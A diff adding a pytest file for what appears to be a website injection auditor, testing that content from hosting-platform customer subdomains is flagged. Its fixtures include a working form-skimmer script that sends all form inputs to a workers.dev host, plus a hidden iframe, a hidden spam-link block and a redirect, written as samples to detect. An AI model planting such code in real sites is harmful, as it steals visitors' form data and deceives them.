@@ -1,0 +1,101 @@
+"""A hosting platform vouches for none of its customers' hosts.
+
+github.io, pages.dev, workers.dev, firebaseapp.com, cloudfront.net and the open CDNs
+(jsDelivr's `/gh/`, unpkg) serve whatever their customers put there: an injected payload
+on `evil.github.io` is anyone's, not GitHub's. The catalogue names the platform (its
+report's company), but the injection heuristics ask `Catalogue.runner_of`, which drops
+the platform's own entry for a customer's host. Google's services under its hosting
+suffixes (fonts.googleapis.com, ajax.googleapis.com, bp.blogspot.com) are named one by one
+and keep their vouch.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from auditor.catalogue import Catalogue
+from auditor.model import Severity
+
+from .conftest import AuditListed
+from .test_injection_families import URL, wp_page
+
+H, M = Severity.HIGH, Severity.MEDIUM
+
+
+@pytest.mark.parametrize("src", [
+    "https://gazette-widgets.github.io/w.js",
+    "https://gazette-promo.pages.dev/w.js",
+    "https://harbour-tools.firebaseapp.com/w.js",
+    "https://raw.githubusercontent.com/xq27/assets/main/w.js",
+    "https://cdn.jsdelivr.net/gh/xq27/assets@main/w.js",
+    "https://unpkg.com/xq27-widgets@1.0.2/w.js",
+    "https://d3kq81x0example.cloudfront.net/w.js",
+])
+def test_a_script_after_html_from_a_platform_customer_is_found(
+        src: str, audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'), URL)
+    (found,) = [f for f in report.findings if f.kind == "appended-script"]
+    assert found.severity is M and "check" in found.message  # no dressed name: medium
+
+
+@pytest.mark.parametrize("src", [
+    "https://ajax.googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js",
+    "https://cdnjs.cloudflare.com/ajax/libs/jquery/3.7.1/jquery.min.js",
+])
+def test_the_platforms_own_library_hosts_still_vouch(src: str,
+                                                      audit_listed: AuditListed) -> None:
+    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'), URL)
+    assert [f for f in report.findings if f.kind == "appended-script"] == []
+
+
+def test_a_skimmer_sending_by_image_to_a_workers_host_is_high(
+        audit_listed: AuditListed) -> None:
+    page = wp_page(footer=(
+        "<script>document.addEventListener('submit',function(e){var d=[];e.target."
+        "querySelectorAll('input').forEach(function(i){d.push(i.name+'='+i.value);});"
+        "new Image().src='https://img-relay.xq27.workers.dev/p.gif?d='+encodeURIComponent("
+        "d.join('&'));},true);</script>"))
+    report = audit_listed(page, URL)
+    assert ("form-skimmer", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_hidden_frame_of_a_pages_dev_site_is_high(audit_listed: AuditListed) -> None:
+    page = wp_page(footer='<iframe src="https://promo-frame.pages.dev/" width="1" height="1"'
+                          ' style="visibility:hidden"></iframe>')
+    report = audit_listed(page, URL)
+    assert ("hidden-iframe", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_hidden_block_of_links_to_blogspot_blogs_is_a_link_farm(
+        audit_listed: AuditListed) -> None:
+    links = "".join(f'<a href="https://{name}.blogspot.com/">{name}</a> '
+                    for name in ("cheap-pills-now", "casino-bonus-daily", "replica-watch-shop",
+                                 "loan-fast-cash"))
+    page = wp_page(footer=f'<div style="display:none">{links}</div>')
+    report = audit_listed(page, URL)
+    assert ("hidden-links", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_one_customer_sending_visitors_to_another_is_a_redirect(
+        audit_listed: AuditListed) -> None:
+    page = ('<html><head><meta http-equiv="refresh" content="0;url=https://win-prizes.github.io/'
+            '"><title>Notes</title></head><body><p>My notes.</p></body></html>')
+    report = audit_listed(page, "https://my-notes.github.io/")
+    assert ("redirect", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+@pytest.mark.parametrize(("host", "company"), [
+    ("gazette-widgets.github.io", None),
+    ("stats-collector.firebaseapp.com", None),
+    ("cdn.jsdelivr.net", None),
+    ("fonts.googleapis.com", "Google"),
+    ("ajax.googleapis.com", "Google"),
+    ("2.bp.blogspot.com", "Google"),
+    ("cdnjs.cloudflare.com", "Cloudflare"),
+])
+def test_the_runner_of_a_host_is_named_only_where_the_catalogue_names_it(
+        host: str, company: str | None, catalogue: Catalogue) -> None:
+    runner = catalogue.runner_of(f"https://{host}/x.js", host)
+    assert (runner.entity.company if runner.entity else None) == company
+    # the report still names the platform that serves it
+    assert catalogue.owners_of([(f"https://{host}/x.js", host)])[0].entity is not None
